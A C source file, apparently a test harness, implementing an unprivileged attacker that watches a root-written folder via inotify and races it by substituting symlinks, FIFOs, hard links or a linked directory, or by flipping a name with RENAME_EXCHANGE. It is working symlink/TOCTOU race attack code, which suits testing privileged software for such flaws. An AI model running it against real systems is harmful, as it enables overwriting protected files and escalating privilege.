/*
 * A user of the host who waits beside a run of root and strikes at the names that it makes in a folder of this user.
 *
 *   attacker FOLDER STOCK WHEN STRIKE [NAME]
 *
 * STOCK holds what is put in the place of a name, numbered: link-0, link-1, … Each strike takes the next one, so that each has a victim of
 * its own. WHEN: `create` or `close` (as soon as a name appears in FOLDER, or has been written), or `always`: without a pause.
 * STRIKE: `link`, `dirlink`, `fifo`, `hard` or `file` puts one of these in the place of the name; `swap` puts a link in the place of FOLDER
 * for a moment; `flip` changes NAME for a link and back. It prints a line when it is ready, and is ended by a signal.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *folder, *stock, *strike;
static int used;

static void die(const char *what) {
  perror(what);
  exit(1);
}

/* Puts the next of the stock in the place of what has this name; a directory is moved out of the way first. */
static void replace(const char *name) {
  char from[4096], to[4096], away[4096];
  snprintf(from, sizeof from, "%s/%s-%d", stock, strike, used);
  snprintf(to, sizeof to, "%s/%s", folder, name);
  if (rename(from, to) == 0) {
    used++;
    return;
  }
  if (errno != EISDIR && errno != ENOTDIR) return;
  snprintf(away, sizeof away, "%s/away-%d", stock, used);
  if (rename(to, away) != 0) {
    snprintf(away, sizeof away, "%s/away-%d", folder, used);
    if (rename(to, away) != 0) return;
  }
  if (rename(from, to) == 0) used++;
}

static void swap(void) {
  char link[4096], away[4096];
  snprintf(link, sizeof link, "%s/dirlink-%d", stock, used);
  snprintf(away, sizeof away, "%s.away", folder);
  if (rename(folder, away) != 0) return;
  if (rename(link, folder) == 0) {
    used++;
    usleep(3000);
    unlink(folder);
  }
  rename(away, folder);
}

static void wait_and_strike(uint32_t mask) {
  char buffer[65536] __attribute__((aligned(8)));
  int watch = inotify_init1(IN_CLOEXEC);
  if (watch < 0 || inotify_add_watch(watch, folder, mask) < 0) die(folder);
  puts("ready");
  fflush(stdout);
  for (;;) {
    ssize_t size = read(watch, buffer, sizeof buffer);
    if (size <= 0) die("inotify");
    for (char *at = buffer; at < buffer + size;) {
      struct inotify_event *event = (struct inotify_event *)at;
      if (event->len > 0 && strncmp(event->name, "away-", 5) != 0) {
        if (strcmp(strike, "swap") == 0) swap();
        else replace(event->name);
      }
      at += sizeof *event + event->len;
    }
  }
}

static void flip(const char *name, const char *with) {
  char one[4096], other[4096];
  snprintf(one, sizeof one, "%s/%s", folder, name);
  snprintf(other, sizeof other, "%s/%s", stock, with);
  puts("ready");
  fflush(stdout);
  for (;;) renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

int main(int count, char **words) {
  if (count < 5) return 2;
  folder = words[1];
  stock = words[2];
  strike = words[4];
  if (strcmp(words[3], "always") == 0) flip(words[5], words[6]);
  wait_and_strike(strcmp(words[3], "create") == 0 ? IN_CREATE : IN_CLOSE_WRITE);
}
